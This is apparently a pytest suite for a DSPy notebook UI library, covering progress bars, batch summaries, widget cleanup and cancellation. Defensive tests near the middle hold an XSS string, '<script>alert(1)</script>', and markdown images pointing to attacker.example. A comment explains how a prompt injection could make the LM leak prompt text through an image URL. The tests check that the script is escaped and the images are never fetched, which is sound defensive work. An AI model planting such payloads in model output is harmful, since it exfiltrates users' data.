"""The views' colour and wording rules: a few failures are not a red bar, cancelled says so."""

from __future__ import annotations

import _thread
import gc
import html
import io
import threading
import time
import warnings
import weakref
from typing import Any

import dspy
import ipywidgets as w
import pytest
from helpers import wait_until
from IPython.core.interactiveshell import InteractiveShell
from IPython.display import display
from openai_server import OpenAIServer

from dspex_nb import Pool
from dspex_nb.ui.append import AppendText
from dspex_nb.ui.kernel_gone import KernelGone
from dspex_nb.ui.progress import StreamText, batch_line, batch_summary
from dspex_nb.ui.pump import PUMP
from dspex_nb.ui.render import show_pool
from dspex_nb.ui.widgets import (
    CELL,
    TWIN_LIMIT,
    UNFINISHED,
    BatchDashboard,
    PoolDashboard,
    StreamView,
    _bar_style,
    _field_html,
    _table,
)


def snap(status: str, ok: int, failed: int, total: int = 120) -> dict:
    return {"status": status, "ok": ok, "failed": failed, "total": total, "running": 0, "rate": 1.0,
            "queued": total - ok - failed, "elapsed": 1.0, "eta": 0.0, "retries": 0, "replaced": 0,
            "from_journal": 0, "tokens_in": 0, "tokens_out": 0}


@pytest.mark.parametrize("status, ok, failed, style", [
    ("running", 10, 0, "info"), ("done", 120, 0, "success"), ("done", 117, 3, "warning"),
    ("running", 7, 3, "warning"), ("done", 0, 120, "danger"), ("cancelled", 48, 0, ""), ("cancelled", 40, 2, ""),
])
def test_the_bar_colour_follows_the_shares(status: str, ok: int, failed: int, style: str) -> None:
    assert _bar_style(snap(status, ok, failed)) == style


def test_a_cancelled_batch_says_so() -> None:
    assert batch_line(snap("cancelled", 48, 0)).startswith("cancelled · 48/120 items")
    assert batch_line(snap("running", 48, 0)).startswith("48/120 items")


def test_a_finished_batch_says_its_rate_and_how_many_items_never_ran() -> None:
    # what tqdm's last line says (n/total, it/s), the saved summary says too, and a stopped batch's unfinished part
    stopped = snap("cancelled", 1200, 34, total=10_000) | {"by_worker": {"w0": 617, "w1": 617}, "rate": 0.3314,
                                                             "elapsed": 3725.1}
    assert batch_summary(stopped) == ("batch cancelled: 10,000 items, 1,200 ok, 34 failed, 8,766 not run on 2 workers "
                                      "in 1 h 02 min, 0.3 items/s")
    done = snap("done", 100, 0, total=100) | {"by_worker": {"w0": 100}, "rate": 70.92, "elapsed": 1.41}
    assert batch_summary(done) == "batch done: 100 items, 100 ok, 0 failed on 1 worker in 1.41 s, 70.9 items/s"


def test_a_long_batch_counts_and_times_read_as_tqdm_s() -> None:
    line = batch_line(snap("running", 1200, 34, total=10_000) | {"elapsed": 125.0, "eta": 7384.0})
    assert line.startswith("1,234/10,000 items · ok 1,200 · failed 34 · running 0 · queued 8,766 · 1.0 items/s · "
                           "2 min 05 s · ETA 2 h 03 min"), line


def test_a_long_row_is_shortened_with_the_whole_text_one_click_away() -> None:
    long = "Demo LM answer: " + "word " * 200
    table = _table(["item", "result"], [["1", "short"], ["2", long]], "latest results")
    assert "<caption" in table and ">latest results</caption>" in table
    assert "<td style='text-align:left;padding-right:1em'>short</td>" in table
    assert f"<summary>{long[:89]}…</summary>" in table and f">{long}</div></details>" in table
    assert "<details data-key='2/1'>" in table  # its row's first value and its column: it stays open as rows move


def test_a_finished_answer_is_markdown_and_its_html_stays_text() -> None:
    shown = _field_html("answer", "A **bold** claim <script>alert(1)</script>\n\n```python\nprint(1)\n```")
    assert "<strong>bold</strong>" in shown and '<pre><code class="language-python">print(1)' in shown
    assert "<script>" not in shown and "&lt;script&gt;alert(1)&lt;/script&gt;" in shown



@pytest.mark.parametrize("text, link", [
    ("see ![chart](https://attacker.example/c.png?d=the+prompt)", "https://attacker.example/c.png?d=the+prompt"),
    ("![chart][ref]\n\n[ref]: https://attacker.example/c.png?d=the+prompt", "https://attacker.example/c.png?d=the+prompt"),
    ("![chart](data:image/png;base64,iVBORw0KGgo=)", "data:image/png;base64,iVBORw0KGgo="),
])
def test_an_image_in_an_answer_is_a_link_never_fetched(text: str, link: str) -> None:
    # a saved notebook's HTML is shown by every browser that opens it: an <img> would be fetched there, carrying in
    # its URL what a prompt injection had the LM put in it
    shown = _field_html("answer", text)
    assert "<img" not in shown and f'<a href="{link}">chart</a>' in shown


class HalfDoneBatch:
    """What a BatchDashboard reads of a batch: 412 of 1,000 items finished, none failed."""

    total, records, arrived, failures, done, decode = 1000, [], [], [], False, None

    def snapshot(self) -> dict:
        return snap("running", 412, 0, total=1000) | {"by_worker": {}, "active": {}, "warning": ""}

    def cancel(self) -> None: ...


def test_the_live_bar_says_its_percentage_as_tqdm_does() -> None:
    dashboard = BatchDashboard(HalfDoneBatch(), "batch")  # type: ignore[arg-type]
    dashboard.refresh()
    assert (dashboard.bar.value, dashboard.bar.description) == (412, "41%")


def test_the_error_list_scrolls_within_its_height_rather_than_spilling_over_the_cells_below() -> None:
    # ipywidgets 8's Layout has no overflow_y: given one, it warns and drops it, and 200 errors overflowed their 16em
    with warnings.catch_warnings():
        warnings.simplefilter("error", DeprecationWarning)
        dashboard = BatchDashboard(HalfDoneBatch(), "batch")  # type: ignore[arg-type]
    assert (dashboard.errors.layout.max_height, dashboard.errors.layout.overflow) == ("16em", "auto")


def test_only_a_prediction_shows_as_no_fields_when_empty() -> None:
    """An empty Prediction (a signature without outputs) has no fields to show; an empty DataFrame, dict or
    list a program returned shows as itself (a DataFrame has ``items()`` too: it showed as nothing)."""
    import dspy
    import pandas as pd

    from dspex_nb.ui.progress import fields_of

    assert fields_of(dspy.Prediction()) == {}
    assert fields_of(pd.DataFrame()) is None and fields_of({}) is None and fields_of([]) is None
    assert fields_of(dspy.Prediction(answer="x")) == {"answer": "x"}


def every_widget(widget: w.Widget) -> list[w.Widget]:
    found = [widget]
    for name in widget.keys:
        value = getattr(widget, name)
        for child in value if isinstance(value, tuple | list) else (value,):
            if isinstance(child, w.Widget):
                found += every_widget(child)
    return found


def test_a_finished_view_closes_every_widget_it_made_and_keeps_no_text_in_them(pool: Pool) -> None:
    # only the root was closed: its fields, tables, buttons, layouts and styles stayed open in the kernel and the
    # browser for as long as they ran, and a notebook run by nbconvert or papermill (which saves every model's last
    # state) kept a 50,000-token answer a third time in its widget state
    InteractiveShell.instance()  # a display with an id, which the finished view replaces
    run = pool.execute_stream("chain_of_thought", {"signature": "question -> answer", "inputs": "Kept?"})
    view = StreamView(run, "cot")
    view.handle = display(view, display_id=True)
    PUMP.add(view)
    run.wait()
    PUMP.flush(view)
    tree = every_widget(view.root)
    assert len(tree) > 10 and any(isinstance(widget, AppendText) for widget in tree)
    assert [widget for widget in tree if widget.comm is not None] == []
    assert [widget for widget in tree if isinstance(getattr(widget, "value", None), str) and widget.value] == []


def test_each_live_view_holds_the_line_that_says_it_is_over_once_its_kernel_has_gone(pool: Pool) -> None:
    # a restart from JupyterLab drops what the old kernel sends as it stops, so a running view stayed as last drawn
    # ("running 8 · ETA 17 s") with a Stop that reached no kernel; the line (browser-side: tests/test_browser.py)
    # disables the buttons of the view it is in, which it finds by the view's class
    run = pool.execute_stream("chain_of_thought", {"signature": "question -> answer", "inputs": "Over?"})
    batch = pool.batch(["a", "b"], "question -> answer", journal=False)
    for view in (StreamView(run, "cot"), BatchDashboard(batch, "b")):
        tree = every_widget(view.root)
        assert "dspex-view" in view.root._dom_classes
        assert sum(isinstance(widget, KernelGone) for widget in tree) == 1
        assert any(isinstance(widget, w.Button) and widget.description == "Stop" for widget in tree)
    run.result()
    batch.result()


def test_the_stop_button_keeps_its_width_beside_a_long_status_line(pool: Pool) -> None:
    # in a 400 px window the status line beside it shrank the button to "S…" (flex items shrink by default)
    run = pool.execute_stream("chain_of_thought", {"signature": "question -> answer", "inputs": "Narrow?"})
    batch = pool.batch(["a"], "question -> answer", journal=False)
    for view in (StreamView(run, "cot"), BatchDashboard(batch, "b")):
        assert (view.stop.layout.width, view.stop.layout.flex) == ("7em", "0 0 auto")
    run.result()
    batch.result()


def each_fails(question: str) -> str:
    if int(question) < 30:
        raise ValueError(f"item {question} is bad")  # an error of its own
    raise ValueError("rate limited")


def test_the_dashboard_lists_each_error_once_with_its_items(pool: Pool) -> None:
    # 200 rows of the same error, item by item, hid that 970 items failed alike and 30 each their own way
    batch = pool.map(each_fails, [str(i) for i in range(1000)], max_errors=1000, journal=False)
    batch.wait()
    dashboard = BatchDashboard(batch, "b")
    dashboard.refresh()
    assert dashboard.error_box.titles == ("errors (1,000 items, 31 errors)",)
    assert dashboard.errors.value.count("<tr>") == 1 + 31
    assert f"<td style='{CELL}'>970 items (30, 31, 32, 33, 34, …)</td>" in dashboard.errors.value
    shown = dashboard.static()
    assert shown["text/plain"].splitlines()[1:] == [
        *(f"  item {i}: ValueError: item {i} is bad" for i in range(20)),
        "  … 980 more failed items, with 11 other errors"]
    assert shown["text/html"].count("<li>") == 31  # all 31 errors: the HTML lists up to 50
    assert "<li>970 items (30, 31, 32, 33, 34, …): ValueError: rate limited</li>" in shown["text/html"]


POINTS = '''
import dataclasses, dspy

@dataclasses.dataclass
class Point:
    x: int
    label: str

class Points(dspy.Module):
    def forward(self, question):
        return dspy.Prediction(point=Point(len(question), question), answer="ok")

points = Points()
'''


def test_a_row_holding_a_class_the_kernel_lacks_reads_as_its_repr_and_says_why(pool: Pool) -> None:
    # was: the latest results' row showed the tagged JSON, "point: {'__dspex__': 'dataclass', 'class': ...}"
    pool.define("points", POINTS)
    batch = pool.map("points", ["hi", "there"], journal=False)
    batch.wait()
    dashboard = BatchDashboard(batch, "b")
    dashboard.refresh()
    shown = html.unescape(dashboard.latest.value)
    assert "point: Point(x=2, label='hi'); answer: ok; NotPortable: output.point is a " in shown
    assert "a class that did not travel with the program" in shown and "__dspex" not in shown
    assert batch.result() == [None, None]  # and the result says so, item by item
    assert all(record["error"]["type"] == "NotPortable" for record in batch.records)


def test_the_memory_of_a_worker_not_measured_yet_is_not_shown_as_0_mb() -> None:
    # was: "0 MB" for a worker just started or replaced, whose first health ping (which measures it) is to come
    with Pool(workers=1, health_interval=60, journal=False) as fresh:  # no health ping for a minute
        assert fresh.status()[0]["rss_mb"] == 0
        text = io.StringIO()
        show_pool(fresh, mode="text", out=text)
        widget = PoolDashboard(fresh).rendering()
        for shown in (text.getvalue(), widget["text/plain"]):
            header, row = shown.splitlines()[1:3]
            assert row[header.index("memory"):].split()[0] == "-", shown
        assert f"<td style='{CELL}'>-</td>" in widget["text/html"] and " MB<" not in widget["text/html"]


def finished(handle: Any) -> Any:
    handle.result(60)
    return handle


def test_an_answer_from_dspys_cache_says_so_rather_than_0_tokens() -> None:
    # DSPy reports no usage for a cache hit, which streams nothing: the live, text and saved views said "0 tokens"
    cot = dspy.ChainOfThought("question -> answer")

    def two_calls(question: str) -> list:
        return [cot(question=question), cot(question=f"{question} again")]

    with OpenAIServer() as server, Pool(workers=1, lm="openai/test-model", journal=False, lm_kwargs={
            "api_base": server.url, "api_key": "sk-test", "cache": True}) as pool:
        runs = [finished(pool.run_stream(cot, question="Cached?")) for _ in range(2)]
        both = finished(pool.run_stream(two_calls, question="Cached?"))  # its first call from the cache, then billed
        batches = [finished(pool.map(cot, ["one?", "two?", "three?"][:size])) for size in (2, 3)]
        assert server.count("Cached?") == 2 and server.count("one?") == 1  # "Cached?" and "Cached? again"
    billed, hit, partly = (StreamText(run) for run in [*runs, both])
    for text in (billed, hit, partly):
        text.update()
    assert runs[0].cached == (0, 0) and "cache" not in billed.summary() and " · LM " in billed.summary()
    assert runs[1].cached == (1, 1) and runs[1].tokens == (0, 0)
    assert hit.summary().startswith("done · run_module on w0 · from DSPy's cache · ")
    assert both.cached == (1, 2) and " · 1 of 2 LM calls from DSPy's cache · " in partly.summary()
    view = StreamView(runs[1], "cot")
    view.refresh()
    assert hit.summary() in view.status.value.replace("&#x27;", "'")  # live
    saved = view.static()
    assert saved["text/plain"].splitlines()[-1] == hit.summary()
    assert "from DSPy&#x27;s cache" in saved["text/html"]
    first, second = (batch_summary(batch.snapshot()) for batch in batches)
    assert "cache" not in first and second.endswith("tokens in / 41 out (2 from DSPy's cache)")
    assert "2 from DSPy's cache" in batch_line(batches[1].snapshot())


def test_a_long_answer_is_saved_once_its_text_twin_keeps_its_start(pool: Pool) -> None:
    # a finished view's text/plain twin held the whole answer again beside its HTML: a 50,000-token answer was
    # saved twice in the .ipynb (664 KB for a 317 KB answer)
    pool.configure_lm("demo", answer_tokens=2000)
    try:
        run = pool.execute_stream("chain_of_thought", {"signature": "question -> answer", "inputs": "Long?"})
        run.result(60)
    finally:
        pool.configure_lm("demo")
    view = StreamView(run, "cot")
    view.refresh()
    saved = view.static()
    answer = run.result()["answer"]
    assert len(answer) > 10_000
    assert html.escape(answer.split(": ", 1)[1], quote=False) in saved["text/html"]  # the HTML has it all
    lines = saved["text/plain"].splitlines()
    assert [line.split(":")[0] for line in lines[:2]] == ["reasoning", "answer"] and lines[2].startswith("done · ")
    assert len(saved["text/plain"]) < 2 * TWIN_LIMIT + 500
    kept, note = lines[1].removeprefix("answer: ").split(" … ")
    assert answer.startswith(kept) and len(kept) > TWIN_LIMIT * 3 // 4
    assert note == f"[{len(answer) - len(kept):,} more characters: the whole text is in this output's HTML]"
    short = StreamView(pool.execute_stream("predict", {"signature": "question -> answer", "inputs": "Short?"}), "p")
    short.text.run.result(60)
    short.refresh()
    assert short.static()["text/plain"].splitlines()[0] == f"answer: {short.text.run.result()['answer']}"


@pytest.mark.parametrize("where", ["body", "wait"])
def test_stop_in_a_loop_over_a_stream_cancels_it(pool: Pool, where: str) -> None:
    # Ctrl-C (JupyterLab's Stop) in `for chunk in pool.execute_stream(...)`: where it landed in the loop's body the
    # call went on to its end on the worker; where it landed in the wait for a chunk, it was cancelled while
    # holding the lock the stream's reader marks its end under, so the cell stayed busy 5 s more
    sent: list[bool] = []

    def interrupt_from_the_reader(chunk: Any) -> None:  # while the loop waits for the next chunk
        if where == "wait" and chunk.kind == "token" and not sent:
            sent.append(True)
            _thread.interrupt_main()

    pool.configure_lm("demo", per_token=0.2, answer_tokens=500)  # 2 min of tokens if not stopped
    try:
        run = pool.execute_stream("chain_of_thought", {"signature": "question -> answer", "inputs": "Stop me?"},
                                  on_chunk=interrupt_from_the_reader)
        with pytest.raises(KeyboardInterrupt):
            for chunk in run:
                if where == "body" and chunk.kind == "token":
                    _thread.interrupt_main()
                    time.sleep(5)  # the interrupt lands here, in the loop's body
        if where == "wait":
            assert run.done  # ended before the interrupt went on
        assert run.wait(20) and run.status == "cancelled"
        assert 0 < sum(c.kind == "token" for c in run.chunks) < 20
        wait_until(lambda: not any(row["in_flight"] for row in pool.status()), what="the workers to be idle")
    finally:
        pool.configure_lm("demo")


def shout(question: str, wait: float = 0.0) -> str:
    import time

    time.sleep(wait)
    return question.upper()


def test_a_loop_over_a_map_gives_its_results_and_stop_cancels_it(pool: Pool) -> None:
    # `for p in pool.map(...)` raised "TypeError: 'BatchRun' object is not iterable" and left the batch running,
    # with no handle to stop it
    assert list(pool.map(shout, ["a", "b", "c"], journal=False)) == ["A", "B", "C"]
    batch = pool.map(shout, [{"question": f"q{i}", "wait": 0.2} for i in range(200)], concurrency=1, journal=False,
                     on_item=lambda record: record["index"] == 0 and _thread.interrupt_main())
    with pytest.raises(KeyboardInterrupt):
        for _ in batch:
            pass
    assert batch.wait(20) and batch.status == "cancelled"
    assert 0 < batch.ok < 200 and batch.records[0]["ok"]


def test_a_call_that_streams_no_tokens_says_its_lm_usage_not_0_tokens(pool: Pool) -> None:
    # `%%dspex predict --no-stream` (tokens off) and a program that calls no LM streamed nothing, and their views said
    # "0 tokens" beside the LM's "95 tokens in / 23 out"
    quiet = pool.call_tool("predict", {"signature": "question -> answer", "inputs": "Quiet?", "tokens": False},
                           stream=True)
    no_lm = pool.call(shout, {"question": "no lm"}, stream=True)
    for run in (quiet, no_lm):
        run.result(60)
    view = StreamView(quiet, "predict")
    view.refresh()
    summary = view.static()["text/plain"].splitlines()[-1]
    assert summary.startswith("done · predict on w") and "token" not in summary.split(" · LM ")[0]
    assert summary.endswith(f" · LM {quiet.tokens[0]} tokens in / {quiet.tokens[1]} out") and quiet.tokens[1] > 0
    text = StreamText(no_lm)
    text.update()
    assert "token" not in text.summary() and text.summary().startswith("done · run_module on w")


def gated(question: str, gate: str = "") -> str:
    import os
    import time

    deadline = time.monotonic() + 30
    while gate and not os.path.exists(gate):  # this item comes back only once the test opens its gate
        if time.monotonic() > deadline:
            raise TimeoutError("the gate was never opened")
        time.sleep(0.01)
    return question.upper()


def test_a_loop_over_a_map_gives_each_result_as_it_and_those_before_it_arrive(pool: Pool, tmp_path: Any) -> None:
    # `for p in pool.map(...)` waited for the whole batch before its first result, unlike ipyparallel's map
    gate = tmp_path / "gate"
    batch = pool.map(gated, [{"question": "a"}, {"question": "b", "gate": str(gate)}, {"question": "c"}],
                     journal=False)
    results = iter(batch)
    assert next(results) == "A"
    assert not batch.done and batch.records[1] is None  # item 1 waits for its gate: the first came before it
    gate.touch()
    assert list(results) == ["B", "C"] and batch.status == "done"


@pytest.mark.parametrize("journal, kept", [
    (False, "pool.evaluate(...) keeps no handle: run it with the journal on"),
    (True, "run the same pool.evaluate(...) again: they come from the journal, only the rest is computed"),
])
def test_an_interrupted_evaluate_names_pool_evaluate_not_pool_map(pool: Pool, journal: bool, kept: str) -> None:
    # Ctrl-C in `pool.evaluate(...)` said "its handle keeps them (batch = pool.map(...); batch.records)": a call the
    # user never made, and a handle pool.evaluate never gives
    devset = [dspy.Example(question=f"q{i} {journal}", wait=0.1).with_inputs("question", "wait") for i in range(100)]

    def items_done() -> int:
        return sum(row["items"] for row in pool.status())

    def interrupt_once_running(before: int = items_done()) -> None:
        wait_until(lambda: items_done() > before, what="the evaluation's first items")
        _thread.interrupt_main()

    threading.Thread(target=interrupt_once_running, daemon=True).start()
    with pytest.raises(KeyboardInterrupt) as stopped:
        pool.evaluate(shout, devset, lambda example, pred, trace=None: 1.0, num_threads=2, journal=journal)
    [note] = stopped.value.__notes__
    assert note.startswith("the batch was stopped after ") and note.endswith(f" of 100 items; {kept}")
    wait_until(lambda: not any(row["in_flight"] for row in pool.status()), what="the workers to be idle")


def test_a_notebook_saved_while_a_view_runs_says_what_the_view_is(pool: Pool) -> None:
    # a notebook saved while a view still ran kept only the widget's mime type and "<dspex stream: ...>": without
    # the kernel, nbconvert, GitHub and VS Code showed that placeholder (JupyterLab: "model not found")
    import nbformat
    from nbconvert import HTMLExporter, MarkdownExporter

    run = pool.execute_stream("predict", {"signature": "question -> answer", "inputs": "Saved now?"})
    view = StreamView(run, "predict")
    bundle = view._repr_mimebundle_()
    run.result(60)
    assert "application/vnd.jupyter.widget-view+json" in bundle  # live: the widgets
    assert bundle["text/plain"] == f"<dspex stream: predict> ({UNFINISHED})"
    saved = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("%%dspex predict ...", outputs=[
        nbformat.v4.new_output("display_data", data=bundle)])])
    exported = html.unescape(HTMLExporter().from_notebook_node(saved)[0])
    assert "a live view, shown with Jupyter widgets" in exported and "dspex-live" in exported
    assert "a notebook saved before then keeps no result" in MarkdownExporter().from_notebook_node(saved)[0]


def test_a_tables_cells_are_aligned_left_as_their_headers_are() -> None:
    # JupyterLab aligns a rendered table's cells right: under headers aligned left, the pool dashboard's "w0" and its
    # figures ("0.5 ms" under "queue wait p50") stood apart from the header they belong to
    table = _table(["worker", "queue wait p50"], [["w0", "0.5 ms"], ["w1", "12 ms"]], "workers")
    cells = table.count("<td ") + table.count("<th ")
    assert cells == 6 and table.count("style='text-align:left;padding-right:1em'") == cells


def test_the_pool_tables_write_their_counts_as_their_tokens() -> None:
    # a long batch's items and chunks were "2050" and "20090" beside "20,010" tokens
    from dspex_nb.ui.progress import pool_rows, stats_rows

    row = {"worker": "w0", "pid": 7, "state": "ready", "in_flight": 2, "done": 1234, "errors": 0, "cancelled": 0,
           "items": 2050, "restarts": 0, "recycles": 0, "rss_mb": 80.0, "uptime": 12.0}
    assert pool_rows([row])[0][3:8] == ["2", "1,234", "0", "0", "2,050"]
    tool = {"calls": 1500, "errors": 0, "chunks": 20090, "tokens_in": 99, "tokens_out": 20010, "cost": None,
            "queue_wait": {}, "execution": {}, "first_chunk": {}}
    assert stats_rows({"tools": {"predict": tool}})[0][:6] == ["predict", "1,500", "0", "20,090", "99", "20,010"]


@pytest.mark.parametrize("kind", ["stream", "batch"])
def test_a_views_stop_button_does_not_keep_its_run_once_the_view_is_gone(pool: Pool, kind: str) -> None:
    # the Stop button's click handler held the run, and an ipywidgets widget is in a reference cycle of its own (its
    # message callbacks hold its methods): a run shown as a cell's value, with its whole result, stayed in the kernel
    # after its view and the value were gone, until Python's cycle collector happened to run
    if kind == "stream":
        handle: Any = pool.run_stream(dspy.Predict("question -> answer"), question="Let go?")
        view: Any = StreamView(handle, "run")
    else:
        handle = pool.map(shout, ["let", "go"], journal=False)
        view = BatchDashboard(handle, "map")
    handle.wait(60)
    view.refresh()
    gone = weakref.ref(handle)
    gc.disable()  # what reference counting alone frees
    try:
        del handle, view
        assert gone() is None
    finally:
        gc.enable()



def test_the_dashboard_decodes_each_latest_result_once_not_at_every_tick(pool: Pool) -> None:
    # the latest results' rows were made again at every tick of the pump (10 a second) while they were shown, each
    # item's output decoded as the program's value every time: eight rows of an 800 KB array took 95 ms of each
    # 100 ms tick, in the pump thread that refreshes every view
    batch = pool.map(dspy.Predict("question -> answer"), ["one?", "two?", "three?"], journal=False)
    batch.wait(60)
    decoded: list[Any] = []
    decode = batch.decode
    batch.decode = lambda result: decoded.append(result) or decode(result)  # type: ignore[misc]  # counts them
    dashboard = BatchDashboard(batch, "map")
    for _ in range(5):
        dashboard.refresh()
    assert len(decoded) == 3
    assert "answer: Demo LM answer to &#x27;three?&#x27;" in dashboard.latest.value


def test_a_long_result_is_cut_in_the_latest_results_not_sent_whole_at_every_tick(pool: Pool) -> None:
    # a row held its item's whole output: a list of 2,000 records made the latest results 1.7 MB, sent to the browser
    # at every tick while items arrived
    batch = pool.map(shout, ["word " * 20_000], journal=False)
    batch.wait(60)
    dashboard = BatchDashboard(batch, "map")
    dashboard.refresh()
    assert len(dashboard.latest.value) < 6_000
    assert "… [98,008 more characters in the item&#x27;s result]" in dashboard.latest.value
